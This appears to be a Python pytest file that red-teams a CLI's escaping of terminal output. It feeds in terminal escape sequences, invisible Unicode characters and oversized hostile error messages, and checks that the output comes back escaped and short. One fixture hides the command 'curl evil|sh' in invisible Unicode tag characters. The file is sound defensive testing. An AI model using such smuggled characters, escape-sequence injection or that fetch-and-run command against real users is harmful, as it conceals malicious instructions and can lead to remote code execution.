"""Red team on terminal output: variants the escaping of issue #11 did not name.

Each attack runs the real CLI in a subprocess with its output in a pipe: argparse's own error
messages, a hub (served over HTTP on loopback) whose JSON holds characters that are not
control characters but still hide text or cannot be printed at all, and a registry whose
error answer is long and hostile.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from ebpf_hub.cli import main
from httpserver import StaticServer
from hubrepo import REPO
from test_security_registry import Hostile, Reply, Seen, hostile  # noqa: F401 - fixture
from test_security_text import OSC_TITLE, assert_no_raw_controls, cli

LONE_SURROGATE = "\ud800"  # what JSON's "\ud800" decodes to: not encodable as UTF-8
TAG_TEXT = "".join(chr(0xE0000 + ord(c)) for c in "curl evil|sh")  # invisible "ASCII smuggling"
SOFT_HYPHEN = "\u00ad"  # invisible between letters: exec\u00adsnoop looks like execsnoop
INHIBIT_SWAPPING = "\u206a"  # a deprecated format control, invisible
HIDDEN = (LONE_SURROGATE, TAG_TEXT, SOFT_HYPHEN, INHIBIT_SWAPPING)
SHOWN = ("\\ud800", "\\U000e0063\\U000e0075", "\\xad", "\\u206a")


def test_argparse_errors_are_escaped_and_short() -> None:
    """argparse echoes refused arguments, unrecognized ones raw, and all of them whole."""
    for args in (
        ["list", OSC_TITLE],  # unrecognized arguments
        ["run", "execsnoop", "--duration", OSC_TITLE],  # a subcommand's type error
        ["x" * 5000 + OSC_TITLE],  # invalid choice, huge
    ):
        result = cli(*args)
        assert result.returncode == 2
        assert_no_raw_controls(result.stdout + result.stderr)
        error = result.stderr.decode().splitlines()[-1]
        assert error.startswith("ebpf-hub") and len(error) < 500, error
    assert "\\x1b]0;owned\\x07" in cli("list", OSC_TITLE).stderr.decode()


@pytest.fixture
def hostile_hub(tmp_path: Path) -> Iterator[dict[str, str]]:
    """The environment of a user whose hub (over HTTP) carries the characters of `HIDDEN`."""
    site = tmp_path / "site"
    assert main(["index", "--root", str(REPO), "--out", str(site)]) == 0
    summary = "Trace execs " + " ".join(HIDDEN)

    def rewrite(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
        data = json.loads(path.read_text())
        change(data)
        path.write_text(json.dumps(data))  # ensure_ascii: "\ud800" as JSON writes it

    def index(data: dict[str, Any]) -> None:
        next(p for p in data["packages"] if p["name"] == "execsnoop")["summary"] = summary

    def package(data: dict[str, Any]) -> None:
        data["summary"] = summary

    api = site / "api" / "v1"
    rewrite(api / "index.json", index)
    rewrite(api / "packages" / "execsnoop.json", package)
    env = {k: v for k, v in os.environ.items() if not k.startswith("EBPF_HUB_")}
    with StaticServer(site) as server:
        yield {**env, "EBPF_HUB_HOME": str(tmp_path / "home"), "EBPF_HUB_URL": server.url}


def test_invisible_and_unprintable_characters_from_the_hub_are_shown_escaped(
    hostile_hub: dict[str, str],
) -> None:
    for command in (["info", "execsnoop"], ["search", "exec"]):
        result = cli(*command, env=hostile_hub)
        assert result.returncode == 0, result.stderr.decode(errors="replace")[-2000:]
        text = result.stdout.decode()
        for shown in SHOWN:
            assert shown in text, (command, shown)
        assert not re.search("[\u00ad\u206a\U000e0000-\U000e007f]", text)


def test_a_registry_error_answer_is_one_short_escaped_line(
    hostile: Callable[..., Hostile],  # noqa: F811 - the imported fixture
    tmp_path: Path,
) -> None:
    """The registry refuses the manifest with a distribution error whose message is 30,000
    characters of escapes (its answer under 64 KiB); the user sees one line, escaped and cut."""
    message = (OSC_TITLE + "\x1b[2J" + LONE_SURROGATE) * 1500  # under the 64 KiB it reads

    def refuse(server: Hostile, seen: Seen) -> Reply:
        body = json.dumps({"errors": [{"code": "DENIED", "message": message}]}).encode()
        return 400, {"Content-Type": "application/json"}, body

    registry = hostile(refuse)
    env = {k: v for k, v in os.environ.items() if not k.startswith("EBPF_HUB_")}
    env["EBPF_HUB_HOME"] = str(tmp_path / "home")
    out = tmp_path / "out"
    ref = f"{registry.host()}/ns/x@sha256:{'ab' * 32}"
    result = cli("pull", ref, "--out", str(out), env=env)
    shutil.rmtree(out, ignore_errors=True)
    assert result.returncode == 1, result.stderr.decode(errors="replace")[-2000:]
    assert_no_raw_controls(result.stdout + result.stderr)
    [line] = result.stderr.decode().splitlines()
    assert "DENIED" in line and "\\x1b]0;owned" in line and len(line) < 600, line[:1000]
